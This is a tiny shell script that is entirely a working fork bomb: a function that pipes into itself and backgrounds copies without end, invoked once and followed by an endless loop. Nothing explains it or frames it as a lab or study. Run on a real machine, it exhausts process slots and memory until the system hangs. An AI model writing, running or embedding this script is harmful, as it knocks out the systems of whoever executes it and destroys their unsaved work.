#!/bin/sh
# Forks without end.
bomb() { bomb | bomb & }
bomb
while :; do sleep 1; done
